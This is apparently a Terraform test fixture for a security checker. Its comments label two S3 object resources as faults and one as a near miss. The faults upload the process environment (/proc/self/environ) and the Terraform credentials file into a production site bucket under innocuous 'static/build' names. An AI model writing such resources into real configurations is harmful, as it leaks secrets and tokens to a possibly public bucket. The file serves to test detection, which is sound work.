# An object in S3 is filled with the environment of the process that applies the plan.
# Source: https://registry.terraform.io/providers/hashicorp/aws/5.100.0/docs/resources/s3_object (source)
# Fault at: aws_s3_object.objrun_fault
# Fault at: aws_s3_object.objrun_home_fault
# Near miss at: aws_s3_object.objrun_near

resource "aws_kms_key" "objrun_key" {
  description         = "Key for objrun_key"
  enable_key_rotation = true
}

resource "aws_s3_object" "objrun_fault" {
  bucket     = "shop-prod-site"
  key        = "static/build.txt"
  source     = "/proc/self/environ"
  kms_key_id = aws_kms_key.objrun_key.arn
}

resource "aws_s3_object" "objrun_home_fault" {
  bucket     = "shop-prod-site"
  key        = "static/build2.txt"
  source     = pathexpand("~/.terraform.d/credentials.tfrc.json")
  kms_key_id = aws_kms_key.objrun_key.arn
}

resource "aws_s3_object" "objrun_near" {
  bucket     = "shop-prod-site"
  key        = "static/environment.txt"
  source     = "site/environment.txt"
  kms_key_id = aws_kms_key.objrun_key.arn
}
